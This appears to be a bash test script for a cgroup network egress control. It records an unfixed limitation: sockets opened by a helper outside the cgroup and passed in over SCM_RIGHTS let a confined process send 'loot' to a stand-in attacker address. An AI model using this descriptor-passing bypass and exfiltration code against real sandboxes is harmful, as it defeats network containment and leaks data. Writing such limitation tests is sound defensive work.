#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: has a helper outside its cgroup open sockets and pass them in over a Unix socket (SCM_RIGHTS)
# stopped-by: none: a socket is judged by the cgroup of who made it; whoever helps from outside could send the data itself
# reason: none: no gate sees it
# kernels: all
#
# A limit, recorded so that nobody takes it for shut. The other way round holds: a socket that was made
# inside is judged whoever uses it.
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000
PARENT=$CG
mkdir "$PARENT/inner"

cat >"$SCRATCH/helper.py" <<'PYTHON'
from attacker import *
import array

with open(os.environ["PARENT"] + "/cgroup.procs", "w") as procs:
    procs.write("0")
server = socket.socket(socket.AF_UNIX)
server.bind(os.environ["PASS"])
server.listen()
while True:
    inside, _ = server.accept()
    opened = [udp(EVIL4), tcp(EVIL4, None)]
    inside.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno() for s in opened]))])
    _, control, _, _ = inside.recvmsg(1, 64)
    evil, data = inside.recv(200).split(b" ", 1)
    with attempt("made inside, used outside"):
        passed = socket.socket(fileno=array.array("i", control[0][2])[0])
        passed.sendto(data, (evil.decode(), 9000))
    inside.send(b".")
PYTHON
export PARENT PASS=$SCRATCH/pass
spawn_in "$CLIENT" env EVIL4=203.0.113.1 EVIL6=::1 ROUND=run0 python3 "$SCRATCH/helper.py"
wait_for 5 test -S "$PASS"

attack_by <<'PYTHON'
from attacker import *
import array

outside = socket.socket(socket.AF_UNIX)
outside.connect(os.environ["PASS"])
_, control, _, _ = outside.recvmsg(1, 64)
fds = array.array("i", control[0][2])
datagram, stream = socket.socket(fileno=fds[0]), socket.socket(fileno=fds[1])
with attempt("passed in, UDP"):
    datagram.sendto(loot("passed-udp"), (EVIL4, 9000))
with attempt("passed in, TCP"):
    stream.connect((EVIL4, 443))
    stream.sendall(loot("passed-tcp"))
made = udp(EVIL4)
outside.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [made.fileno()]))])
outside.sendall(EVIL4.encode() + b" " + loot("made-inside"))
outside.recv(1)
PYTHON
CG=$PARENT/inner
works stolen:passed-udp stolen:passed-tcp stolen:made-inside
gate
NOT_COUNTED="stolen:passed|ip4 6 "
stopped
passes stolen:passed-udp stolen:passed-tcp
recorded sendmsg4 destination
